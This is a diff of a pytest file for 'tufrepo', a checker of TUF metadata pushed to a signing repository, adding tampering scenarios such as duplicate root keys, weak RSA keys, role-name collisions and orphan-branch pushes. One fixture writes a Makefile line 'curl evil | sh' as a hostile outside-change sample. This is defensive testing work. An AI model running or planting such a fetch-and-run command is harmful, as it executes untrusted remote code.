@@ -18,7 +18,13 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from conftest import _CLEARED_ENV, _ISOLATED_ENV, NOW, World, day, git, init_repo
+from conftest import _CLEARED_ENV, _ISOLATED_ENV, NOW, World, day, git, init_repo, out, run
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import ec, rsa
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+from securesystemslib.signer import Key, SSlibKey
+
+from tufrepo.fields import spec_keyid
 
 EXPIRES_OK = (NOW + timedelta(days=30)).strftime("%Y-%m-%dT%H:%M:%SZ")
 
@@ -224,28 +230,93 @@ def _copy(src: str, dst: str) -> Callable[[Path], None]:
     return apply
 
 
-SCENARIOS: dict[str, tuple[Callable[[Path], None], str]] = {
+def _succinct(signed: dict[str, Any]) -> None:
+    # hash bins delegated to an outsider's key: a shape tufrepo does not walk
+    outsider = SSlibKey.from_crypto(Ed25519PrivateKey.generate().public_key())
+    signed["delegations"] = {
+        "keys": {outsider.keyid: outsider.to_dict()},
+        "succinct_roles": {
+            "keyids": [outsider.keyid], "threshold": 1, "bit_length": 1, "name_prefix": "bin",
+        },
+    }  # fmt: skip
+
+
+def _second_delegation(name: str) -> Callable[[dict[str, Any]], None]:
+    def change(signed: dict[str, Any]) -> None:
+        first = signed["delegations"]["roles"][0]
+        signed["delegations"]["roles"].append(dict(first, name=name, paths=["other/*"]))
+
+    return change
+
+
+def _duplicate_root_key(signed: dict[str, Any]) -> None:
+    # the signer's public key again, under another keyid and another keyowner
+    keys = signed["keys"]
+    keyid = signed["roles"]["root"]["keyids"][0]
+    copy = dict(keys[keyid], **{"x-tuf-on-ci-keyowner": "@mallory"})
+    copy_id = spec_keyid(Key.from_dict("x", dict(copy)))
+    keys[copy_id] = copy
+    signed["roles"]["root"]["keyids"].append(copy_id)
+    signed["roles"]["root"]["threshold"] = 2
+
+
+def _duplicate_delegated_key(signed: dict[str, Any]) -> None:
+    keys = signed["delegations"]["keys"]
+    role = signed["delegations"]["roles"][0]
+    copy = dict(keys[role["keyids"][0]], **{"x-tuf-on-ci-keyowner": "@mallory"})
+    copy_id = spec_keyid(Key.from_dict("x", dict(copy)))
+    keys[copy_id] = copy
+    role["keyids"].append(copy_id)
+
+
+def _new_root_key(keytype: str, scheme: str, public: str) -> Callable[[dict[str, Any]], None]:
+    def change(signed: dict[str, Any]) -> None:
+        key = {"keytype": keytype, "scheme": scheme, "keyval": {"public": public},
+               "x-tuf-on-ci-keyowner": "@mallory"}  # fmt: skip
+        keyid = spec_keyid(Key.from_dict("x", dict(key)))
+        signed["keys"][keyid] = key
+        signed["roles"]["root"]["keyids"].append(keyid)
+
+    return change
+
+
+def _rsa_pem(bits: int) -> str:
+    private = rsa.generate_private_key(public_exponent=65537, key_size=bits)
+    return _pem(private.public_key())
+
+
+def _ec_pem() -> str:
+    return _pem(ec.generate_private_key(ec.SECP256R1()).public_key())
+
+
+def _pem(public: Any) -> str:
+    data: bytes = public.public_bytes(
+        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
+    )
+    return data.decode()
+
+
+SCENARIOS: dict[str, tuple[Callable[[Path], None], str]] = {  # all exit 4
     # version rules
     "root-version-plus-two": (
         edit("root", lambda s: s.update(version=s["version"] + 1)),
         "version",
     ),
-    "root-payload-same-version": (edit("root", _set("x-note", "changed"), bump=False), "version"),
+    "root-payload-same-version": (
+        edit("root", _set("x-note", "changed"), bump=False),
+        "version-reused",
+    ),
     "targets-version-down": (
         edit("targets", lambda s: s.update(version=s["version"] - 2)),
-        "version",
-    ),
-    "targets-version-plus-two": (
-        edit("targets", lambda s: s.update(version=s["version"] + 1)),
-        "version",
+        "rollback",
     ),
     "delegated-payload-same-version": (
         edit("releases", _set("x-note", "x"), bump=False),
-        "version",
+        "version-reused",
     ),
     "online-threshold-same-version": (
         edit("root", lambda s: s["roles"]["timestamp"].update(threshold=2), bump=False),
-        "version",
+        "version-reused",
     ),
     # expiry and periods
     "expiry-too-far": (
@@ -270,7 +341,17 @@ SCENARIOS: dict[str, tuple[Callable[[Path], None], str]] = {
     ),
     "online-periods-insane": (
         edit("root", lambda s: s["roles"]["timestamp"].update({"x-tuf-on-ci-signing-period": 5})),
-        "online-periods",
+        "periods",
+    ),
+    "timestamp-expiry-period-huge": (
+        edit(
+            "root", lambda s: s["roles"]["timestamp"].update({"x-tuf-on-ci-expiry-period": 36500})
+        ),
+        "periods",
+    ),
+    "expiry-period-overflow": (
+        edit("targets", _set("x-tuf-on-ci-expiry-period", 10**30)),
+        "periods",
     ),
     # online files
     "snapshot-changed": (edit("snapshot", lambda s: None), "online-role-changed"),
@@ -312,17 +393,25 @@ SCENARIOS: dict[str, tuple[Callable[[Path], None], str]] = {
         ),
         "missing-role-file",
     ),
-    "delegation-keys-changed-not-resigned": (
-        edit("targets", _delegation(lambda r: r.update(keyids=[]))),
-        "delegation-not-resigned",
-    ),
     "delegation-paths-changed-not-resigned": (
         edit("targets", _delegation(lambda r: r.update(paths=["*"]))),
-        "delegation-not-resigned",
+        "path-outside-delegation",
     ),
-    "delegation-threshold-changed-not-resigned": (
-        edit("targets", _delegation(lambda r: r.update(threshold=2))),
-        "delegation-not-resigned",
+    "succinct-hash-bins-to-outsider": (edit("targets", _succinct), "succinct-delegation"),
+    "role-name-case-collision": (
+        chain(
+            edit("targets", _second_delegation("Releases")),
+            _copy("metadata/releases.json", "metadata/Releases.json"),
+        ),
+        "role-name-collision",
+    ),
+    "role-name-shadows-top-level": (
+        edit("targets", _delegation(lambda r: r.update(name="Root"))),
+        "role-name-collision",
+    ),
+    "role-name-trailing-newline": (
+        edit("targets", _delegation(lambda r: r.update(name="releases\n"))),
+        "unsafe-role-name",
     ),
     "nested-delegation": (edit("releases", _nested), "nested-delegation"),
     "unsafe-role-name": (
@@ -330,9 +419,6 @@ SCENARIOS: dict[str, tuple[Callable[[Path], None], str]] = {
         "unsafe-role-name",
     ),
     # targets
-    "listed-without-file": (_add_target("ghost.txt", b"ghost\n"), "targets-mismatch"),
-    "file-not-listed": (write("targets/extra.txt", b"extra\n"), "targets-mismatch"),
-    "file-does-not-match": (write("targets/top.txt", b"tampered\n"), "targets-mismatch"),
     "path-outside-delegation": (
         _add_target("releases/../top.txt", b"top\n"),
         "unsafe-target-path",
@@ -385,11 +471,21 @@ SCENARIOS: dict[str, tuple[Callable[[Path], None], str]] = {
     ),
     # keys
     "keyid-not-hash": (edit("root", _root_keyid_tamper), "keyid"),
-    "unsupported-key-scheme": (edit("root", _online_key_scheme), "key-type"),
-    "stray-empty-signature": (_stray_signature, "stray-signature"),
-    # files outside metadata/ and targets/
-    "workflow-change": (write(".github/workflows/evil.yml", b"on: push\n"), "outside-change"),
-    "makefile-change": (write("Makefile", b"all:\n\tcurl evil | sh\n"), "outside-change"),
+    "unsupported-key-scheme": (edit("root", _online_key_scheme), "key-unusable"),
+    "same-key-under-two-keyids": (edit("root", _duplicate_root_key), "duplicate-key"),
+    "delegated-same-key-twice": (edit("targets", _duplicate_delegated_key), "duplicate-key"),
+    "key-not-a-public-key": (
+        edit("root", _new_root_key("ed25519", "ed25519", "00" * 7)),
+        "key-unusable",
+    ),
+    "rsa-key-too-small": (
+        edit("root", _new_root_key("rsa", "rsassa-pss-sha256", _rsa_pem(1024))),
+        "key-unusable",
+    ),
+    "ecdsa-curve-mismatch": (
+        edit("root", _new_root_key("ecdsa", "ecdsa-sha2-nistp384", _ec_pem())),
+        "key-unusable",
+    ),
     # malformed
     "malformed-json": (write("metadata/targets.json", b"{"), "malformed"),
     "wrong-type": (_copy("metadata/root.json", "metadata/targets.json"), "malformed"),
@@ -436,8 +532,93 @@ def test_stale_event_is_rejected(base: Base) -> None:
     git(world.ci, "checkout", "-q", "main")
 
 
-def test_there_are_at_least_forty_scenarios() -> None:
-    assert len(SCENARIOS) + 1 >= 40
+# Shapes that are not attacks: real repositories make them (tuf-on-ci's own
+# tools, or an event beside a workflow update).  Each gets its specific
+# non-error finding and waits (exit 3) instead of being rejected.
+ACCEPTED: dict[str, tuple[Callable[[Path], None], str | None, str | None]] = {
+    # tuf-on-ci's update-targets skips versions; the spec only asks for an increase
+    "targets-version-plus-two": (
+        edit("targets", lambda s: s.update(version=s["version"] + 1)), None, None,
+    ),
+    # artifacts changed but update-targets has not run yet
+    "file-not-listed": (write("targets/extra.txt", b"extra\n"), "targets-mismatch", "waiting"),
+    "file-does-not-match": (
+        write("targets/top.txt", b"tampered\n"), "targets-mismatch", "waiting",
+    ),
+    "listed-without-file": (_add_target("ghost.txt", b"ghost\n"), "targets-mismatch", "waiting"),
+    # a delegation change whose role no longer verifies: its signers must re-sign
+    "delegation-keys-changed-not-resigned": (
+        edit("targets", _delegation(lambda r: r.update(keyids=[]))),
+        "delegation-not-resigned", "waiting",
+    ),
+    "delegation-threshold-changed-not-resigned": (
+        edit("targets", _delegation(lambda r: r.update(threshold=2))),
+        "delegation-not-resigned", "waiting",
+    ),
+    # clients ignore signatures of keys a role does not list; tufrepo drops them
+    "stray-empty-signature": (_stray_signature, "stray-signature", "warning"),
+    # files outside metadata/ and targets/: a prominent warning for the signers
+    "workflow-change": (
+        write(".github/workflows/evil.yml", b"on: push\n"), "outside-change", "warning",
+    ),
+    "makefile-change": (
+        write("Makefile", b"all:\n\tcurl evil | sh\n"), "outside-change", "warning",
+    ),
+    # tuf-on-ci never lists dotfiles: they are not artifacts
+    "dotfile-in-targets": (write("targets/.gitkeep", b""), None, None),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", sorted(ACCEPTED))
+def test_accepted_shape_waits_with_its_finding(base: Base, name: str) -> None:
+    mutate, code, severity = ACCEPTED[name]
+    event = _push_event(base, f"ok-{name}", mutate)
+    exit_code, status = base.world.status(event)
+    found = {(f["code"], f["severity"]) for f in status["findings"]}
+    assert exit_code == 3, (name, status)
+    assert not [f for f in status["findings"] if f["severity"] == "error"], status
+    if code is not None:
+        assert (code, severity) in found, (name, found)
+
+
+def test_outside_changes_can_be_refused(base: Base) -> None:
+    event = _push_event(base, "refused-workflow", write(".github/workflows/x.yml", b"on: push\n"))
+    base.world.ci_run("status", event=event)
+    result = run("-C", str(base.world.ci), "--json", "status", "--refuse-outside-changes")
+    status = json.loads(result.stdout.splitlines()[0])
+    assert result.exit_code == 4
+    assert [f["code"] for f in status["findings"]] == ["outside-change"]
+    git(base.world.ci, "checkout", "-q", "main")
+
+
+def test_event_without_common_history_is_rejected(base: Base) -> None:
+    # a complete repository signed by an outsider, pushed with no merge-base with main
+    world, clone = base.world, base.attacker
+    git(clone, "fetch", "-q", "--prune")
+    git(clone, "checkout", "-q", "-f", "--orphan", "sign/orphan", "origin/main")
+    git(clone, "commit", "-q", "-m", "a repository of my own")
+    git(clone, "push", "-q", "-f", "origin", "sign/orphan")
+    result = world.ci_run("status", event="sign/orphan")
+    assert result.exit_code == 4
+    assert "shares no history with main" in out(result)
+    git(world.ci, "checkout", "-q", "main")
+
+
+def test_shallow_checkout_is_deepened_before_judging(base: Base, tmp_path: Path) -> None:
+    # actions/checkout's default depth 1: known good must still be the real merge-base
+    world = base.world
+    event = _push_event(base, "shallow-history-rewrite",
+                        edit("root", _set("x-note", "rewritten"), bump=False))  # fmt: skip
+    shallow = tmp_path / "shallow"
+    git(tmp_path, "clone", "-q", "--depth", "1", "--no-single-branch",
+        f"file://{world.origin}", str(shallow))  # fmt: skip
+    git(shallow, "checkout", "-q", event)
+    assert git(shallow, "rev-parse", "--is-shallow-repository") == "true"
+    result = run("-C", str(shallow), "--json", "status")
+    status = json.loads(result.stdout.splitlines()[0])
+    assert result.exit_code == 4, status
+    assert "version-reused" in {f["code"] for f in status["findings"]}
+    assert git(shallow, "rev-parse", "--is-shallow-repository") == "false"
 
 
 # --- honest events of the same shapes pass ------------------------------------------
